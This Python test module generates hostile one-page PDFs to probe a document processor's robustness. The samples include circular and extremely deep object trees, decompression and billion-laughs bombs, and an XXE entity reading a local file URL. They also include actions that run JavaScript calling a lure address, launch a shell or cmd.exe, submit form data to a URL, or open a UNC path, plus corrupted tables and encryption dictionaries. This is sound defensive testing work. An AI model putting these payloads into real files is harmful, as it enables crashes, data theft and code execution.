"""PDFs that go in circles, swell, run programs, call home, or claim what they are not."""

from __future__ import annotations

import random
from collections.abc import Iterator

from tests.hostile.kinds import Hostile
from tests.hostile.lures import FILE_URL, URL
from tests.hostile.opened import PDF_PROFILE
from tests.hostile.pdf_mails import made, raw, sample
from tests.hostile.pdf_pages import drawn, pictures
from tests.hostile.rawpdf import DRAWN, PAGE, deflated, pdf, stream

_CALL = URL.encode()


def pdfs(chance: random.Random) -> Iterator[Hostile]:
    """Documents of one page with something hostile in them, and the sample with it added."""
    yield from _structure(chance)
    yield from _actions()
    yield from drawn(chance)
    yield from pictures(chance)
    yield from _fields(chance)
    yield from _appended(chance)


def _structure(chance: random.Random) -> Iterator[Hostile]:
    some = chance.randint(30_000, 120_000)
    yield made("a page tree of itself", {2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"})
    yield made("a page that is its own parent", {3: PAGE.replace(b"2 0 R /Media", b"3 0 R /Media")})
    kids = b"<< /Type /Pages /Kids [%b] /Count 1 >>"
    yield made("a page a hundred thousand times", {2: kids % (b"3 0 R " * 100_000)})
    deep = {
        n: b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>" % (n - 1, n + 1)
        for n in range(5, 2_000)
    }
    yield made("a page tree two thousand deep", {2: kids % b"5 0 R", **deep, 2_000: PAGE})
    yield made("a count of a milliard", {2: b"<< /Type /Pages /Kids [3 0 R] /Count 999999999 >>"})
    yield made("a count below nothing", {2: b"<< /Type /Pages /Kids [3 0 R] /Count -5 >>"})
    yield made("an object of itself", {3: b"3 0 R"})
    yield made("a length of itself", {4: b"<< /Length 4 0 R >>\nstream\nx\nendstream"})
    yield made("a length of a milliard", {4: stream(DRAWN, length=999_999_999)})
    yield made("a length below nothing", {4: stream(DRAWN, length=-1)})
    yield made("dictionaries in dictionaries", {5: b"<</a" * some})
    yield made("lists in lists", {5: b"[" * some + b"]" * some})
    yield made("an open string", {5: b"(" * some})
    yield made("a name of a megabyte", {5: b"/" + b"a" * 1_000_000})
    yield made("a number of many figures", {5: b"9" * some, 3: PAGE.replace(b"612", b"9" * 400)})
    bomb = b"".join(b"%d %d " % (n, n) for n in range(100)) + b" " * 30_000_000
    yield made(
        "objects packed in a bomb", {5: deflated(bomb, b"/Type /ObjStm /N 9999999 /First 800")}
    )
    yield made("packed objects that extend each other", {
        5: deflated(b"6 0 null", b"/Type /ObjStm /N 1 /First 4 /Extends 6 0 R"),
        6: deflated(b"5 0 null", b"/Type /ObjStm /N 1 /First 4 /Extends 5 0 R"),
    })  # fmt: skip
    whole = pdf()
    start = whole.rindex(b"xref\n0")
    yield raw("tables in a circle", pdf(trailer=b"/Prev %d" % start))
    yield raw("a table of noise", whole[: start + 8] + chance.randbytes(300) + whole[start + 90 :])
    for said, place in (
        ("-1", -1),
        ("0", 0),
        ("5", 5),
        ("a wrong place", start + 7),
        ("nowhere", 10**12),
    ):
        yield raw(
            f"a start at {said}", whole.replace(b"startxref\n%d" % start, b"startxref\n%d" % place)
        )
    yield raw("ten thousand ends", whole + b"startxref\n%d\n%%%%EOF\n" % start * 10_000)
    yield raw("no root", whole.replace(b"/Root 1 0 R", b"/Root 9 0 R"))
    yield raw("no trailer", whole[: whole.rindex(b"trailer")])
    yield raw("a megabyte before it", b"x" * 900 + whole)
    yield raw(
        "a linear lie",
        whole.replace(
            b"%PDF-1.7\n",
            b"%PDF-1.7\n9 0 obj<</Linearized 1/L 9/H[1 2]/O 9/E 9/N 999999/T 9>>endobj\n",
        ),
    )
    lock = b"/ID [<00><00>] /Encrypt << /Filter /Standard /V %d /R %d /O <%b> /U <%b> /P -4 /Length 99999 >>"
    for version in (1, 5, 99):
        yield raw(
            f"a broken lock of version {version}",
            pdf(trailer=lock % (version, version, b"00" * 32, b"11" * 32)),
        )


def _actions() -> Iterator[Hostile]:
    """What a viewer would run, open or send."""
    for name, action in (
        ("JavaScript", b"/S /JavaScript /JS (app.launchURL\\('%b'\\))" % _CALL),
        ("a program to launch", b"/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >>"),
        ("an address to open", b"/S /URI /URI (%b)" % _CALL),
        ("a form to send", b"/S /SubmitForm /F (%b) /Flags 4" % _CALL),
        ("data to import", b"/S /ImportData /F (%b)" % FILE_URL.encode()),
        ("another file to go to", b"/S /GoToR /F (\\\\\\\\127.0.0.1\\\\x) /D [0 /Fit]"),
        ("a film", b"/S /Rendition /R << /C << /D (%b) >> >>" % _CALL),
    ):
        root = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << %b >> /AA << /WC << %b >> >> >>"
        yield made(name, {1: root % (action, action)})
        yield sample(f"{name} behind the sample", b"99 0 obj\n<< %b >>\nendobj\n" % action)
    names = b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Kids [5 0 R] >> >> >>"
    yield made("names in a circle", {1: names, 5: b"<< /Kids [5 0 R] >>"})
    file = b"<< /Type /Filespec /F (calc.exe) /EF << /F 7 0 R >> >>"
    held = {5: b"<< /Names [(a) 6 0 R] >>", 6: file, 7: deflated(b"MZ" + bytes(22_000_000))}
    yield made("an embedded program that is a bomb", {1: names, **held})
    lined = b"<< /Type /Catalog /Pages 2 0 R /Outlines 5 0 R >>"
    yield made(
        "an outline in a circle",
        {
            1: lined,
            5: b"<< /First 6 0 R /Last 6 0 R >>",
            6: b"<< /Title (a) /Next 6 0 R /First 5 0 R >>",
        },
    )
    about = b"<< /Type /Catalog /Pages 2 0 R /Metadata 5 0 R >>"
    laughs = b'<!DOCTYPE a [<!ENTITY b "' + b"c" * 9_000 + b'">]><a>' + b"&b;" * 90_000 + b"</a>"
    yield made(
        "metadata of a bomb", {1: about, 5: deflated(laughs, b"/Type /Metadata /Subtype /XML")}
    )


def _fields(chance: random.Random) -> Iterator[Hostile]:
    root = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [%b] %b >> >>"
    field = b"<< /FT /Tx /T (f) /V (x) /Kids [%b] /Parent %b >>"
    yield made("fields in a circle", {1: root % (b"5 0 R", b""), 5: field % (b"5 0 R", b"5 0 R")})
    yield made(
        "one field a hundred thousand times",
        {1: root % (b"5 0 R " * 100_000, b""), 5: field % (b"", b"null")},
    )
    many = chance.randint(20_000, 100_000)
    listed = {n: b"<< /FT /Tx /T (f%d) /V (x) >>" % n for n in range(5, many)}
    yield made(
        "very many fields", {1: root % (b" ".join(b"%d 0 R" % n for n in listed), b""), **listed}
    )
    chain = {n: field % (b"%d 0 R" % (n + 1), b"%d 0 R" % (n - 1)) for n in range(5, 3_000)}
    yield made("fields three thousand deep", {1: root % (b"5 0 R", b""), **chain})
    yield made(
        "a value of ten megabytes",
        {1: root % (b"5 0 R", b""), 5: b"<< /FT /Tx /T (a) /V (%b) >>" % (b"x" * 10_000_000)},
    )
    options = b"<< /FT /Ch /T (a) /Opt [%b] /V (x) >>" % (b"(x) " * 200_000)
    yield made("a list of very many choices", {1: root % (b"5 0 R", b""), 5: options})
    yield made(
        "very many annotations",
        {
            3: PAGE.replace(b"/Contents", b"/Annots [" + b"5 0 R " * 90_000 + b"] /Contents"),
            5: b"<< /Subtype /FreeText /Rect [0 0 9 9] /Contents (x) >>",
        },
    )
    laughs = '<!DOCTYPE a [<!ENTITY b "{}">]><a>{}</a>'.format(
        "c" * 9_000,
        "&b;" * 90_000,
    )
    asked = f'<!DOCTYPE a [<!ENTITY b SYSTEM "{FILE_URL}">]><a>&b;</a>'
    for name, xfa in (("a bomb", laughs), ("a file", asked), ("depth", "<a>" * 90_000)):
        yield made(f"XFA of {name}", {1: root % (b"", b"/XFA 5 0 R"), 5: deflated(xfa.encode())})
    for name, span in (("everywhere", b"[0 999999999999 0 0]"), ("below nothing", b"[-1 -1 -1 -1]"),
                       ("in pieces", b"[" + b"0 1 " * 9_000 + b"]"), ("of words", b"[/a (b)]")):  # fmt: skip
        signature = b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange %b /Contents <%b> >>"
        yield made(f"a signature over {name}", {
            1: root % (b"5 0 R", b"/SigFlags 3"), 5: b"<< /FT /Sig /T (s) /V 6 0 R >>",
            6: signature % (span, chance.randbytes(4_000).hex().encode()),
        })  # fmt: skip


def _appended(chance: random.Random) -> Iterator[Hostile]:
    """The sample profile with something behind it, or damaged."""
    whole = PDF_PROFILE.read_bytes()
    start = whole.rindex(b"startxref")
    yield sample("a thousand empty revisions", whole[start:] * 1_000)
    yield sample("a zip behind it", b"PK\x05\x06" + bytes(18))
    yield sample("ten megabytes of noise", chance.randbytes(10_000_000))
    yield sample(
        "another catalog",
        b"1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
    )
    yield raw("the sample cut", whole[: chance.randrange(2_000, len(whole) - 100)])
    for round_ in range(3):
        data = bytearray(whole)
        for _ in range(10 ** (round_ + 1)):
            data[chance.randrange(len(data))] = chance.randrange(256)
        yield raw(f"the sample with {10 ** (round_ + 1)} bytes changed", bytes(data), form=True)
